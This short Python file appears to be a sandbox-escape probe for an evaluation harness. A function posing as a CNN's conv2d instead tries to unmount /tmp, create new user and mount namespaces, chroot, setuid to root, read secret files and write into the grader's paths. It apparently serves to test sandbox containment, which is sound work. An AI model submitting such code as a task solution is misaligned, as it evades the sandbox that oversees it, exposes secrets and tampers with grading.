"""Tries to undo the sandbox: unmount and remount, a new user namespace, chroot, and writing
where the grader keeps its files."""
import ctypes
import os
import subprocess
from cnn_oracle import serve
from common import TARGETS, attempt, relu


def conv2d(inputs, params):
    libc = ctypes.CDLL(None, use_errno=True)

    def call(rc):
        if rc != 0:
            raise OSError(ctypes.get_errno(), "failed")
        return rc

    tries = [
        attempt("umount /tmp", lambda: subprocess.run(["umount", "/tmp"], capture_output=True, check=True)),
        attempt("unshare", lambda: call(libc.unshare(0x10000000 | 0x00020000))),  # CLONE_NEWUSER | CLONE_NEWNS
        attempt("mount proc", lambda: subprocess.run(["mount", "-t", "proc", "proc", "/tmp"], capture_output=True, check=True)),
        attempt("chroot", lambda: os.chroot("/")),
        attempt("setuid 0", lambda: os.setuid(0)),
    ]
    tries += [attempt("read " + p, lambda p=p: open(p).read()) for p in TARGETS["secrets"]]
    tries += [attempt("write " + p, lambda p=p: open(p, "w").write("x")) for p in TARGETS["writes"]]
    raise RuntimeError("; ".join(tries))


serve({"relu": relu, "conv2d": conv2d})
